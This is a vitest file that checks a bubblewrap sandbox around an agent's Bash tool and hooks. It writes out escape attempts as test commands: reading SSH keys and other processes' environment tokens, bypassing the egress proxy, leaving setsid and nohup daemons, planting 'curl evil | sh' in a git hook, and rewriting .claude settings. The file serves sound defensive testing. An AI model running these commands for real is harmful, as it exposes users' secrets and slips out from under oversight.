/**
 * The OS sandbox around Bash and hooks, on real bubblewrap: each test is an escape that works on an
 * unconfined worker (the `unconfined` cases show it) and must fail inside the sandbox.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import fs from 'node:fs/promises';
import http from 'node:http';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { runBash } from '../../../src/activities/tools/bash';
import { runHookProcess } from '../../../src/activities/hooks/run-hook';
import { sandboxProblem, type SandboxOptions } from '../../../src/config/sandbox-options';
import { createTestWorkspace, type TestWorkspace } from '../tools/helpers';
import { processesMatching } from '../../helpers/processes';

const sandboxOn: SandboxOptions = { mode: 'on', bwrap: 'bwrap', hiddenFiles: [] };
const sandboxOff: SandboxOptions = { mode: 'off', bwrap: 'bwrap', hiddenFiles: [] };
const problem = await sandboxProblem(sandboxOn);
if (problem) console.warn(`SKIPPED: the sandbox tests need bubblewrap: ${problem} (apt-get install bubblewrap socat)`);

let workspace: TestWorkspace;
let home: string;
let previousHome: string | undefined;
const children: ChildProcess[] = [];

beforeEach(async () => {
  workspace = await createTestWorkspace();
  home = path.join(path.dirname(workspace.root), 'home');
  await fs.mkdir(path.join(home, '.ssh'), { recursive: true });
  await fs.writeFile(path.join(home, '.ssh', 'id_ed25519'), 'PRIVATE-KEY-MATERIAL\n');
  await fs.writeFile(path.join(workspace.outside, 'secret.txt'), 'OUTSIDE-SECRET\n');
  previousHome = process.env.HOME;
  process.env.HOME = home;
});
afterEach(async () => {
  process.env.HOME = previousHome;
  for (const child of children.splice(0)) child.kill('SIGKILL');
  await workspace.cleanup();
});

const bash = (command: string, sandbox: SandboxOptions = sandboxOn, context: Record<string, unknown> = {}) =>
  runBash(workspace.call({ command }, { context }), { ...workspace.env, shell: { sandbox } });

describe.skipIf(problem !== undefined)('Bash in the sandbox', () => {
  it('writes in the workspace, not outside it, and reads nothing outside it', async () => {
    expect(await bash('echo inside > made.txt && cat made.txt')).toEqual({ isError: false, content: 'inside' });
    expect(await fs.readFile(path.join(workspace.root, 'made.txt'), 'utf8')).toBe('inside\n');
    const read = await bash('cat ../outside/secret.txt');
    expect(read.isError).toBe(true);
    expect(read.content).not.toContain('OUTSIDE-SECRET');
    const wrote = await bash(`echo pwned > ${path.join(workspace.outside, 'new.txt')}`);
    expect(wrote.isError).toBe(true);
    await expect(fs.stat(path.join(workspace.outside, 'new.txt'))).rejects.toThrow();
    // The same commands reach outside on an unconfined worker: what the sandbox takes away.
    expect((await bash('cat ../outside/secret.txt', sandboxOff)).content).toBe('OUTSIDE-SECRET');
  });

  it("sees no home: the worker's keys are not there", async () => {
    const result = await bash('cat ~/.ssh/id_ed25519; ls -A ~; echo "home=$HOME"');
    expect(result.content).not.toContain('PRIVATE-KEY-MATERIAL');
    expect(result.content).toContain(`home=${home}`);
    expect((await bash('cat ~/.ssh/id_ed25519', sandboxOff)).content).toBe('PRIVATE-KEY-MATERIAL');
  });

  it("reads no other process's environment", async () => {
    const other = spawn('sleep', ['31.4159'], {
      env: { ...process.env, SERVICE_TOKEN: 'tok-9f8e7d6c' },
      stdio: 'ignore',
    });
    children.push(other);
    const result = await bash(
      'cat /proc/[0-9]*/environ 2>/dev/null | tr "\\0" "\\n" | grep -c . ; cat /proc/[0-9]*/environ 2>/dev/null | tr "\\0" "\\n" | grep SERVICE_TOKEN || echo none',
    );
    expect(result.content).not.toContain('tok-9f8e7d6c');
    expect(result.content).toContain('none');
    expect(
      (await bash(`cat /proc/${other.pid}/environ | tr "\\0" "\\n" | grep SERVICE_TOKEN`, sandboxOff)).content,
    ).toContain('tok-9f8e7d6c');
  });

  it("cannot connect to the worker's loopback services", async () => {
    const server = net.createServer((socket) => socket.end('HELLO-FROM-HOST\n'));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const port = (server.address() as net.AddressInfo).port;
    try {
      const command = `exec 3<>/dev/tcp/127.0.0.1/${port} && cat <&3`;
      const result = await bash(command);
      expect(result.isError).toBe(true);
      expect(result.content).not.toContain('HELLO-FROM-HOST');
      expect((await bash(command, sandboxOff)).content).toContain('HELLO-FROM-HOST');
    } finally {
      server.close();
    }
  });

  it('reaches allowed domains only, through the egress proxy', async () => {
    const server = http.createServer((_request, response) => response.end('PAGE-FROM-ALLOWED-HOST'));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const port = (server.address() as net.AddressInfo).port;
    try {
      const allowed = await bash(`curl -sS --max-time 10 http://127.0.0.1:${port}/`, sandboxOn, {
        sandbox: { network: { allowedDomains: ['127.0.0.1'] } },
      });
      expect(allowed).toEqual({ isError: false, content: 'PAGE-FROM-ALLOWED-HOST' });
      const refused = await bash(
        `curl -sS --max-time 10 -o /dev/null -w '%{http_code}' http://localhost:${port}/`,
        sandboxOn,
        { sandbox: { network: { allowedDomains: ['127.0.0.1'] } } },
      );
      expect(refused.content).toContain('403');
      expect(refused.content).toContain(`Sandbox: the network proxy refused localhost`);
      // Around the proxy there is no way out: its variables unset, the connection fails.
      const direct = await bash(
        `env -u HTTP_PROXY -u http_proxy curl -sS --max-time 5 --noproxy '*' http://127.0.0.1:${port}/`,
        sandboxOn,
        { sandbox: { network: { allowedDomains: ['127.0.0.1'] } } },
      );
      expect(direct.isError).toBe(true);
      expect(direct.content).not.toContain('PAGE-FROM-ALLOWED-HOST');
    } finally {
      server.close();
    }
  });

  it('leaves nothing running: nohup, setsid, double forks and TERM-proof daemons end with the call', async () => {
    const marks = ['41.11', '41.12', '41.13', '41.14'];
    const command = [
      `nohup sleep ${marks[0]} >/dev/null 2>&1 &`,
      `setsid sleep ${marks[1]} >/dev/null 2>&1 &`,
      `( ( sleep ${marks[2]} >/dev/null 2>&1 & ) & )`,
      `setsid sh -c 'trap "" TERM; sleep ${marks[3]}' >/dev/null 2>&1 &`,
      'echo started',
    ].join('\n');
    expect((await bash(command)).content).toBe('started');
    await new Promise((resolve) => setTimeout(resolve, 300));
    for (const mark of marks) expect(processesMatching(`sleep ${mark}`)).toEqual([]);
  });

  it('a cancelled call takes its whole tree, daemons included', async () => {
    const running = bash('setsid sleep 42.21 >/dev/null 2>&1 & sleep 42.22');
    await new Promise((resolve) => setTimeout(resolve, 500));
    workspace.abort.abort();
    const result = await running;
    expect(result.content).toContain('cancelled');
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(processesMatching('sleep 42.2')).toEqual([]);
  });

  it("cannot change the repository's git hooks or the project's settings", async () => {
    await fs.mkdir(path.join(workspace.root, '.git', 'hooks'), { recursive: true });
    await fs.mkdir(path.join(workspace.root, '.claude'));
    await fs.writeFile(path.join(workspace.root, '.claude', 'settings.json'), '{}\n');
    const result = await bash(
      'echo "curl evil | sh" > .git/hooks/pre-commit; echo "{\\"hooks\\":{}}" > .claude/settings.json; echo done',
    );
    expect(result.content).toContain('Read-only file system');
    await expect(fs.stat(path.join(workspace.root, '.git', 'hooks', 'pre-commit'))).rejects.toThrow();
    expect(await fs.readFile(path.join(workspace.root, '.claude', 'settings.json'), 'utf8')).toBe('{}\n');
  });

  it('runs with symlinked settings, and neither swaps the links nor writes through them', async () => {
    await fs.mkdir(path.join(workspace.root, '.claude'));
    await fs.writeFile(path.join(workspace.root, 'shared-settings.json'), '{}\n');
    await fs.symlink(
      path.join(workspace.root, 'shared-settings.json'),
      path.join(workspace.root, '.claude', 'settings.json'),
    );
    await fs.symlink('/etc/hostname', path.join(workspace.root, '.mcp.json'));
    const fifo = path.join(workspace.outside, 'fifo');
    await new Promise<void>((resolve, reject) =>
      spawn('mkfifo', [fifo]).on('exit', (code) => (code === 0 ? resolve() : reject(new Error(`mkfifo ${code}`)))),
    );
    await fs.symlink(fifo, path.join(workspace.root, '.claude', 'settings.local.json'));
    const result = await bash(
      [
        'echo STARTED',
        'echo "{\\"hooks\\":{}}" > .claude/settings.json',
        'echo "{\\"hooks\\":{}}" > shared-settings.json',
        'rm -f .claude/settings.json',
        'mv .claude/settings.local.json moved.json',
        'echo done',
      ].join('; '),
    );
    expect(result.content).toContain('STARTED');
    expect(result.content).toContain('Read-only file system');
    expect(await fs.readFile(path.join(workspace.root, 'shared-settings.json'), 'utf8')).toBe('{}\n');
    expect(await fs.readlink(path.join(workspace.root, '.claude', 'settings.json'))).toBe(
      path.join(workspace.root, 'shared-settings.json'),
    );
    expect(await fs.readlink(path.join(workspace.root, '.claude', 'settings.local.json'))).toBe(fifo);
  });

  it('hides the paths settings deny and writes where they allow', async () => {
    await workspace.write('secrets/token.txt', 'DENIED-CONTENT\n');
    const extra = path.join(path.dirname(workspace.root), 'extra');
    await fs.mkdir(extra);
    const sandbox = { filesystem: { denyRead: ['secrets/**'], allowWrite: [extra] } };
    const result = await bash(`cat secrets/token.txt; echo ok > ${extra}/w.txt && echo wrote`, sandboxOn, { sandbox });
    expect(result.content).not.toContain('DENIED-CONTENT');
    expect(result.content).toContain('wrote');
    expect(await fs.readFile(path.join(extra, 'w.txt'), 'utf8')).toBe('ok\n');
  });

  it('refuses to run a command when bubblewrap is missing, saying how to install it', async () => {
    const result = await bash('echo should-not-run', { mode: 'on', bwrap: '/nonexistent/bwrap', hiddenFiles: [] });
    expect(result.isError).toBe(true);
    expect(result.content).toMatch(
      /^SandboxUnavailable: .*not installed.*apt-get install bubblewrap.*SUBAGENTS_SANDBOX=off/s,
    );
    expect(result.content).not.toContain('should-not-run\n');
  });

  it('hides the files named by the worker’s secret-file variables', async () => {
    const keyFile = path.join(workspace.root, 'payload.key');
    await fs.writeFile(keyFile, 'PAYLOAD-KEY-BYTES\n');
    const result = await bash('cat payload.key; echo end', { ...sandboxOn, hiddenFiles: [keyFile] });
    expect(result.content).not.toContain('PAYLOAD-KEY-BYTES');
  });
});

describe.skipIf(problem !== undefined)('hooks in the sandbox', () => {
  const hook = (command: string, sandbox: SandboxOptions = sandboxOn) =>
    runHookProcess(
      { event: 'Stop', command, timeoutMs: 10_000, cwd: workspace.root, projectDir: workspace.root, payload: {} },
      { shell: { sandbox } },
    );

  it('leave no daemon behind and cannot read the home directory’s keys', async () => {
    const result = await hook('(setsid sleep 43.31 >/dev/null 2>&1 &); cat ~/.ssh/id_ed25519; echo hook-ran');
    expect(result.stdout).toContain('hook-ran');
    expect(result.stdout).not.toContain('PRIVATE-KEY-MATERIAL');
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(processesMatching('sleep 43.31')).toEqual([]);
  });

  it('write their project, not the rest of the machine', async () => {
    const result = await hook(
      `echo log >> hook.log; echo x > ${path.join(workspace.outside, 'hook.txt')} || echo refused`,
    );
    expect(result.stdout).toContain('refused');
    expect(await fs.readFile(path.join(workspace.root, 'hook.log'), 'utf8')).toBe('log\n');
    await expect(fs.stat(path.join(workspace.outside, 'hook.txt'))).rejects.toThrow();
    expect(os.platform()).toBe('linux');
  });
});
